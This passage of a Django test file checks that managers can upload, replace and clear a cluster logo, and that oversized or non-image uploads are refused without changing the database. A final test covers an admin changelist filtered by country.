    return SimpleUploadedFile(name, buffer.getvalue(), content_type=f"image/{image_format}")


def test_manager_uploads_the_first_logo(login, cluster, manager):
    client = login(manager)
    response = client.post(edit_url(cluster), {**edit_data(cluster), "logo": image_upload()})
    assert response.status_code == 302
    cluster.refresh_from_db()
    assert cluster.logo.name.startswith("clusters/logos/")
    changes = AuditEvent.objects.get(verb="cluster.update").changes
    assert changes["logo"][0] == ""
    assert client.get(cluster.get_absolute_url()).status_code == 200


def test_manager_replaces_and_clears_the_logo(login, cluster, manager):
    client = login(manager)
    client.post(edit_url(cluster), {**edit_data(cluster), "logo": image_upload("first.png")})
    cluster.refresh_from_db()
    first = cluster.logo.name
    assert first

    client.post(edit_url(cluster), {**edit_data(cluster), "logo": image_upload("second.png")})
    cluster.refresh_from_db()
    assert cluster.logo.name not in ("", first)

    response = client.post(edit_url(cluster), {**edit_data(cluster), "logo-clear": "on"})
    assert response.status_code == 302
    cluster.refresh_from_db()
    assert not cluster.logo


def test_saving_without_a_new_logo_keeps_the_logo(login, cluster, manager):
    client = login(manager)
    client.post(edit_url(cluster), {**edit_data(cluster), "logo": image_upload()})
    cluster.refresh_from_db()
    logo = cluster.logo.name
    client.post(edit_url(cluster), edit_data(cluster, city="Potsdam"))
    cluster.refresh_from_db()
    assert (cluster.city, cluster.logo.name) == ("Potsdam", logo)


def test_a_logo_over_1_mb_is_refused(login, cluster, manager):
    big = image_upload("big.bmp", size=(620, 620), image_format="BMP")
    assert big.size > 1_048_576
    before = db_state()
    response = login(manager).post(edit_url(cluster), {**edit_data(cluster), "logo": big})
    assert response.status_code == 400
    assert has_field_error(response, "logo", LOGO_TOO_LARGE)
    assert db_state() == before


def test_a_logo_that_is_not_an_image_is_refused(login, cluster, manager):
    fake = SimpleUploadedFile("logo.png", b"not an image at all", content_type="image/png")
    before = db_state()
    response = login(manager).post(edit_url(cluster), {**edit_data(cluster), "logo": fake})
    assert response.status_code == 400
    assert has_field_error(response, "logo", "Upload a valid image.")
    assert db_state() == before


def test_admin_cluster_changelist_filters_by_country(login, secretariat, cluster, other_cluster):
    response = login(secretariat).get(
        reverse("admin:clusters_cluster_changelist"), {"country": "FR"}
    )
    assert response.status_code == 200
    assert [c.name for c in response.context["cl"].result_list] == ["Energy Coast"]
